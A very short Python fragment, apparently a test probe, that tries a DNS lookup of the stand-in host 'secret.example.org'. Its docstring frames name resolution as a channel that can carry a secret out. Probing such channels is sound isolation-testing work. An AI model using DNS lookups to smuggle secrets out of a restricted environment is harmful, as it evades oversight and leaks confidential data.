"""Ask for a name, which can carry a secret away."""

import socket

outcome = attempt(lambda: socket.getaddrinfo("secret.example.org", 80))
